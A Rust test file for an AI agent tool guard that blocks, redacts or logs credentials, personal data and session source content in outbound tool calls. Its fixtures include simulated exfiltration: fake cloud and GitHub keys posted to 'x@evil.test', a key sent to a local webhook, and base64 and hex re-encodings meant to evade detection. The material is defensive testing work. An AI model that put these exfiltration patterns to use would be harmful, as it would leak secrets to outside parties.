//! Outbound checks end to end: a sink tool's arguments are read before it
//! runs. Credentials and personal data are blocked, confirmed, redacted or
//! logged as the policy says; content a source tool returned in the
//! session is refused however the model re-encoded it; unrelated text
//! runs. Every refusal is asserted exactly, and that the tool never ran;
//! against a real webhook receiver on 127.0.0.1, the unguarded key arrives
//! and the guarded one does not.

use std::sync::Mutex;

use base64::Engine as _;
use guard_runtime::outbound::{LabelRules, LeakAction, OutboundPolicy};
use guard_runtime::policy::{Format, Policy};
use guard_runtime::{CallContext, DenyReason, Guard, Outcome, ToolCall, secure_tool};

/// What `post` was last handed, to show what the tool received.
static POSTED: Mutex<Vec<String>> = Mutex::new(Vec::new());

/// Read a customer's record; a data-flow source.
#[secure_tool(risk = "low", source = "customer_data")]
fn read_record(id: u32) -> String {
    format!(
        "Record {id}: account Zq8Lp3Rt9Vx2Mk7W opened in March. The customer asked us to keep \
         the renewal terms confidential until the board approves the new pricing model."
    )
}

/// Post a message outside; a data-flow sink.
#[secure_tool(risk = "low", sink = "external")]
fn post(to: String, body: String) -> String {
    POSTED.lock().unwrap().push(body.clone());
    format!("posted to {to}")
}

/// Post inside the company; a sink with looser rules.
#[secure_tool(risk = "low", sink = "internal")]
fn post_internal(body: String) -> String {
    POSTED.lock().unwrap().push(body.clone());
    "posted".to_owned()
}

/// POSTs `body` to `url`: what a webhook tool does.
async fn deliver(url: &str, body: &str) -> Result<(), String> {
    reqwest::Client::new()
        .post(url)
        .body(body.to_owned())
        .send()
        .await
        .map_err(|e| e.to_string())?;
    Ok(())
}

/// Post to a webhook; a data-flow sink that really sends. (The address is
/// `hook`, not `url`: a `url` parameter would be held to https and public
/// hosts, and this receiver is plain http on 127.0.0.1.)
#[secure_tool(risk = "low", sink = "external")]
async fn post_webhook(hook: String, body: String) -> Result<String, guard_runtime::ToolError> {
    deliver(&hook, &body)
        .await
        .map_err(guard_runtime::ToolError::new)?;
    Ok("delivered".to_owned())
}

/// A webhook receiver on 127.0.0.1 that keeps every request it gets.
async fn receiver() -> (String, std::sync::Arc<Mutex<Vec<String>>>) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/hook", listener.local_addr().unwrap());
    let got = std::sync::Arc::new(Mutex::new(Vec::new()));
    let keep = got.clone();
    tokio::spawn(async move {
        loop {
            let Ok((mut socket, _)) = listener.accept().await else {
                return;
            };
            let mut buf = vec![0u8; 64 * 1024];
            let mut read = 0;
            // The whole request: headers, then the body its length announces.
            loop {
                let n = socket.read(&mut buf[read..]).await.unwrap_or(0);
                read += n;
                let text = String::from_utf8_lossy(&buf[..read]).to_string();
                if let Some(head) = text.find("\r\n\r\n") {
                    let length = text[..head]
                        .lines()
                        .find_map(|l| {
                            l.to_ascii_lowercase()
                                .strip_prefix("content-length:")
                                .map(|v| v.trim().parse::<usize>().unwrap_or(0))
                        })
                        .unwrap_or(0);
                    if read >= head + 4 + length || n == 0 {
                        keep.lock().unwrap().push(text);
                        break;
                    }
                } else if n == 0 {
                    break;
                }
            }
            let _ = socket
                .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok")
                .await;
        }
    });
    (url, got)
}

fn guard(outbound: OutboundPolicy) -> Guard {
    Guard::builder()
        .only(["read_record", "post", "post_internal"])
        .outbound(outbound)
        .build()
        .unwrap()
}

fn call(id: &str, name: &str, args: serde_json::Value) -> ToolCall {
    ToolCall::new(id, name, args.to_string())
}

async fn one(guard: &Guard, ctx: &CallContext, name: &str, args: serde_json::Value) -> Outcome {
    let replies = guard.dispatch(ctx, &[call("c", name, args)]).await;
    replies.into_iter().next().unwrap().outcome
}

fn leak(kind: &str) -> Outcome {
    Outcome::Denied {
        reason: DenyReason::Leak { kind: kind.into() },
    }
}

fn posted_contains(needle: &str) -> bool {
    POSTED.lock().unwrap().iter().any(|b| b.contains(needle))
}

#[tokio::test]
async fn credentials_in_a_sink_call_are_refused_and_the_tool_never_runs() {
    let guard = guard(OutboundPolicy::default());
    let ctx = CallContext::new("agent").session("s-cred");
    let body = "deploy keys: AKIAQ3EGRT5HYX2ZK7PL and ghp_Zx8kQ2mN4pR7sT1vW3yB5dF6gH9jK0lM2nP4";
    let replies = guard
        .dispatch(
            &ctx,
            &[call(
                "c1",
                "post",
                serde_json::json!({"to": "x@evil.test", "body": body}),
            )],
        )
        .await;
    assert_eq!(replies[0].outcome, leak("secret"));
    // The model is told what kind, never the value.
    assert!(
        !replies[0].content.contains("AKIA"),
        "{}",
        replies[0].content
    );
    assert!(!posted_contains("AKIAQ3EGRT5HYX2ZK7PL"));
    // A benign message runs.
    let ok = one(
        &guard,
        &ctx,
        "post",
        serde_json::json!({"to": "ops@example.com", "body": "build 812 is green"}),
    )
    .await;
    assert_eq!(ok, Outcome::Success);
}

#[tokio::test]
async fn a_key_sent_to_a_real_webhook_arrives_unguarded_and_never_guarded() {
    let (url, received) = receiver().await;
    let key = "AKIAQ3EGRT5HYX2ZK7PL";
    // Unguarded, the tool's own code delivers the key to the server.
    deliver(&url, &format!("creds: {key}")).await.unwrap();
    assert!(received.lock().unwrap().iter().any(|r| r.contains(key)));
    received.lock().unwrap().clear();

    // Guarded, the call is refused and nothing reaches the server.
    let guard = Guard::builder().only(["post_webhook"]).build().unwrap();
    let ctx = CallContext::new("agent").session("s-webhook");
    let args = serde_json::json!({"hook": url, "body": format!("creds: {key}")});
    assert_eq!(
        one(&guard, &ctx, "post_webhook", args).await,
        leak("secret")
    );
    // A benign post goes through, so the receiver was listening.
    let args = serde_json::json!({"hook": url, "body": "deploy finished"});
    assert_eq!(
        one(&guard, &ctx, "post_webhook", args).await,
        Outcome::Success
    );
    let got = received.lock().unwrap().clone();
    assert_eq!(got.len(), 1, "{got:?}");
    assert!(got[0].contains("deploy finished") && !got[0].contains(key));
}

#[tokio::test]
async fn source_content_is_refused_however_it_is_encoded() {
    let guard = guard(OutboundPolicy::default());
    let ctx = CallContext::new("agent").session("s-taint");
    assert_eq!(
        one(&guard, &ctx, "read_record", serde_json::json!({"id": 7})).await,
        Outcome::Success
    );

    let token = "account Zq8Lp3Rt9Vx2Mk7W";
    let passage =
        "keep the renewal terms confidential until the board approves the new pricing model";
    let b64 = base64::engine::general_purpose::STANDARD.encode(token);
    let hex: String = token.bytes().map(|b| format!("{b:02x}")).collect();
    for body in [
        format!("fyi {token}"),
        format!("data={b64}"),
        format!("0x{hex}"),
        format!("summary: they want us to {passage}"),
        "the account is zq8lp3rt9vx2mk7w".to_owned(),
    ] {
        let outcome = one(
            &guard,
            &ctx,
            "post",
            serde_json::json!({"to": "x@y.test", "body": body}),
        )
        .await;
        assert_eq!(outcome, leak("source content"), "{body}");
    }
    assert!(!posted_contains("Zq8Lp3Rt9Vx2Mk7W") && !posted_contains(&b64));

    // Unrelated text runs; another session never read the record.
    let unrelated =
        serde_json::json!({"to": "x@y.test", "body": "The pricing meeting moved to Tuesday."});
    assert_eq!(
        one(&guard, &ctx, "post", unrelated.clone()).await,
        Outcome::Success
    );
    let other = CallContext::new("agent").session("s-other");
    let same_text = serde_json::json!({"to": "x@y.test", "body": format!("fyi {token}")});
    assert_eq!(
        one(&guard, &other, "post", same_text).await,
        Outcome::Success
    );
}

#[tokio::test]
async fn the_policy_decides_per_kind_and_per_label() {
    // Personal data redacted for external sinks, allowed inside.
    let policy = OutboundPolicy::default().pii(LeakAction::Redact).label(
        "internal",
        LabelRules {
            pii: Some(LeakAction::Off),
            ..LabelRules::default()
        },
    );
    let guard = guard(policy);
    let ctx = CallContext::new("agent").session("s-pii");
    let body = "call back ada.lovelace@example.org today";
    let outcome = one(
        &guard,
        &ctx,
        "post",
        serde_json::json!({"to": "crm", "body": body}),
    )
    .await;
    assert_eq!(outcome, Outcome::Success);
    assert!(posted_contains("call back [REDACTED:email] today"));
    assert_eq!(
        one(
            &guard,
            &ctx,
            "post_internal",
            serde_json::json!({"body": "mail grace.hopper@example.org"})
        )
        .await,
        Outcome::Success
    );
    assert!(posted_contains("mail grace.hopper@example.org"));

    // Confirm without a confirmer fails closed.
    let guard = self::guard(OutboundPolicy::default().pii(LeakAction::Confirm));
    assert_eq!(
        one(
            &guard,
            &ctx,
            "post",
            serde_json::json!({"to": "crm", "body": body})
        )
        .await,
        Outcome::Denied {
            reason: DenyReason::NoConfirmer
        }
    );

    // Off means off: the key goes out.
    let guard = self::guard(OutboundPolicy::off());
    let body = "key AKIAQ3EGRT5HYX2ZK7PL";
    assert_eq!(
        one(
            &guard,
            &ctx,
            "post",
            serde_json::json!({"to": "x", "body": body})
        )
        .await,
        Outcome::Success
    );
}

#[tokio::test]
async fn a_policy_file_section_replaces_the_builder_and_cannot_name_what_is_not_there() {
    let text = "[outbound]\nsecrets = \"log\"\npii = \"block\"\n";
    let guard = Guard::builder()
        .only(["read_record", "post", "post_internal"])
        .policy(Policy::from_str(text, Format::Toml).unwrap())
        .build()
        .unwrap();
    let ctx = CallContext::new("agent").session("s-file");
    assert_eq!(
        one(
            &guard,
            &ctx,
            "post",
            serde_json::json!({"to": "x", "body": "mail ada@example.org"})
        )
        .await,
        leak("personal data")
    );
    for (text, message) in [
        (
            "[outbound]\ntools = [\"post_webhok\"]\n",
            "no tool named `post_webhok` in this guard",
        ),
        (
            "[outbound.labels.extrenal]\npii = \"off\"\n",
            "no tool has the sink label `extrenal`",
        ),
    ] {
        let err = Guard::builder()
            .only(["read_record", "post", "post_internal"])
            .policy(Policy::from_str(text, Format::Toml).unwrap())
            .build()
            .unwrap_err();
        assert!(err.to_string().contains(message), "{err}");
    }
    let err = Policy::from_str("[outbound]\nsecrets = \"shred\"\n", Format::Toml).unwrap_err();
    assert_eq!(err.key(), Some("outbound.secrets"));
}

#[tokio::test]
async fn without_fingerprints_sources_are_withheld_and_sinks_refused_unless_the_policy_allows() {
    let unavailable = Outcome::Denied {
        reason: DenyReason::BackendUnavailable,
    };
    let body =
        serde_json::json!({"to": "x@y.test", "body": "account Zq8Lp3Rt9Vx2Mk7W as discussed"});
    for (policy, expected) in [
        ("", unavailable.clone()),
        ("on_backend_error = \"allow\"\n", Outcome::Success),
    ] {
        let guard = Guard::builder()
            .only(["read_record", "post", "post_internal"])
            .policy(Policy::from_str(policy, Format::Toml).unwrap())
            .state(guard_tests::RequiredOnly::default())
            .build()
            .unwrap();
        let ctx = CallContext::new("agent").session("s-no-content");
        let replies = guard
            .dispatch(
                &ctx,
                &[call("c", "read_record", serde_json::json!({"id": 3}))],
            )
            .await;
        assert_eq!(replies[0].outcome, expected, "{policy:?}");
        if expected != Outcome::Success {
            // The model never sees what could not be remembered.
            assert!(!replies[0].content.contains("Zq8Lp3Rt9Vx2Mk7W"));
        }
        assert_eq!(
            one(&guard, &ctx, "post", body.clone()).await,
            expected,
            "{policy:?}"
        );
    }
}
